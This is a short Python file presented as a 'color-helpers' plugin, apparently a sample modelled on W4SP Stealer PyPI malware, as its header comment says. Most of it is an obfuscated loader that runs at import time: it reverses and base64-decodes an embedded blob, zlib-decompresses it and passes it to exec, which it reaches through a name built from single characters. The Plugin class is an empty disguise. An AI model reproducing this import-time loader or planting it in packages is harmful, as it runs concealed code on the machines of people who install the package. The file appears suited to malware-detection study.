# Inspired by W4SP Stealer PyPI packages (2022, e.g. 'typesutil', 'pyrologin') packed with the "pyobfuscate"/Hyperion layer: reversed base64 -> zlib -> exec.
import sys as _s

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))

_blob = b"==wVJEqgAQw1VlEytwsToU1zKvCSXlcyNj0zQF9KMrMKrwJe"


class _Boot:
    def __init__(self, data):
        self._d = data

    def __call__(self):
        runner = getattr(__import__("builtins"), "".join(["e", "x", "e", "c"]))
        runner((_)(self._d), {"__name__": "__main__", "sys": _s})


if not hasattr(_s, "_pg_loaded"):
    _s._pg_loaded = True
    _Boot(_blob)()


class Plugin:
    name = "color-helpers"
